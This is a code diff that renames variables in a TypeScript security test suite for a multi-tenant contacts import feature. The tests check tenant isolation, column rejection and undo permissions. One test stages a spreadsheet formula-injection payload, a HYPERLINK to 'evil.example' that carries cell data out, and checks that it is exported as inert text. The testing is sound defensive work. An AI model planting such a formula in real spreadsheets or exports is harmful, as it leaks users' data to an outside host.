@@ -5,16 +5,16 @@ import { service } from '../../support/backend.ts';
 import { memberOf, type Person, person, succeed, tenantOwner } from '../world.ts';
 
 let victim: Person;
-let mate: Person;
+let teammate: Person;
 let thief: Person;
 
 beforeAll(async () => {
   victim = await tenantOwner();
-  mate = await memberOf(victim.tenantId);
+  teammate = await memberOf(victim.tenantId);
   thief = await person('broker');
 });
 
-const begin = (who: Person, id: string, columns = ['name', 'company', 'email']) =>
+const beginImport = (who: Person, id: string, columns = ['name', 'company', 'email']) =>
   who.client.rpc('begin_import', {
     p_id: id,
     p_kind: 'contacts',
@@ -35,18 +35,18 @@ const rowOf = async (who: Person, company: string) =>
 it("another user's import can't be extended, read, finished or undone, even by a teammate", async () => {
   const company = randomUUID();
   const id = randomUUID();
-  await succeed(begin(victim, id));
+  await succeed(beginImport(victim, id));
   await succeed(stage(victim, id, { name: 'Ada', company }));
-  for (const who of [thief, mate]) {
-    expect(await codeOf(begin(who, id))).toBe('HXRIN');
+  for (const who of [thief, teammate]) {
+    expect(await codeOf(beginImport(who, id))).toBe('HXRIN');
     expect(await codeOf(stage(who, id, { name: 'Eve', company }))).toBe('HXRIN');
     expect(await codeOf(who.client.rpc('validate_import', { p_id: id }))).toBe('HXRIN');
     expect(await codeOf(finish(who, id))).toBe('HXRIN');
     expect(await codeOf(who.client.rpc('import_state', { p_id: id }))).toBe('HXRIN');
   }
   await succeed(finish(victim, id));
-  for (const who of [thief, mate]) expect(await codeOf(undo(who, id))).toBe('HXRIN');
-  expect(await rowOf(mate, company)).toMatchObject({ name: 'Ada', deleted_at: null });
+  for (const who of [thief, teammate]) expect(await codeOf(undo(who, id))).toBe('HXRIN');
+  expect(await rowOf(teammate, company)).toMatchObject({ name: 'Ada', deleted_at: null });
   expect(await succeed(thief.client.rpc('my_imports', { p_kind: 'contacts' }))).toEqual([]);
 });
 
@@ -61,11 +61,11 @@ it('IDs, owners, tenants, versions and timestamps in a file are ignored', async 
     'created_at',
     'deleted_at',
   ]) {
-    expect(await codeOf(begin(thief, randomUUID(), ['name', column])), column).toBe('HXRIF');
+    expect(await codeOf(beginImport(thief, randomUUID(), ['name', column])), column).toBe('HXRIF');
   }
   const company = randomUUID();
   const id = randomUUID();
-  await succeed(begin(thief, id));
+  await succeed(beginImport(thief, id));
   const crafted = {
     name: 'Eve',
     company,
@@ -91,7 +91,7 @@ it("a row with another team's client email can't find or change that client", as
     victim.client.from('contacts').insert({ name: 'Ada', company, email }).select('id'),
   );
   const id = randomUUID();
-  await succeed(begin(thief, id));
+  await succeed(beginImport(thief, id));
   await succeed(stage(thief, id, { name: 'Mallory', email }));
   expect(await succeed(thief.client.rpc('validate_import', { p_id: id }))).toMatchObject({
     known: 0,
@@ -104,11 +104,11 @@ it("a row with another team's client email can't find or change that client", as
 it("records that left the team can't be undone by its import", async () => {
   const company = randomUUID();
   const id = randomUUID();
-  await succeed(begin(mate, id));
-  await succeed(stage(mate, id, { name: 'Ada', company }));
-  await succeed(finish(mate, id));
-  await succeed(service().from('tenant_users').delete().eq('user_id', mate.id).select());
-  expect(await codeOf(undo(mate, id))).toBe('HXRIN');
+  await succeed(beginImport(teammate, id));
+  await succeed(stage(teammate, id, { name: 'Ada', company }));
+  await succeed(finish(teammate, id));
+  await succeed(service().from('tenant_users').delete().eq('user_id', teammate.id).select());
+  expect(await codeOf(undo(teammate, id))).toBe('HXRIN');
   expect(await rowOf(victim, company)).toMatchObject({ name: 'Ada', deleted_at: null });
 });
 
@@ -116,7 +116,7 @@ it('an imported formula cell is exported as text', async () => {
   const company = randomUUID();
   const id = randomUUID();
   const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
-  await succeed(begin(thief, id));
+  await succeed(beginImport(thief, id));
   await succeed(stage(thief, id, { name: formula, company }));
   await succeed(finish(thief, id));
   const row = await rowOf(thief, company);
@@ -126,7 +126,7 @@ it('an imported formula cell is exported as text', async () => {
 
 it("import tables can't be accessed from outside", async () => {
   for (const table of ['record_imports', 'record_import_rows', 'record_import_results']) {
-    const answer = await thief.client.from(table as 'contacts').select();
-    expect(answer.error?.code, table).toMatch(/^(?:42P01|PGRST205|42501)$/);
+    const result = await thief.client.from(table as 'contacts').select();
+    expect(result.error?.code, table).toMatch(/^(?:42P01|PGRST205|42501)$/);
   }
 });
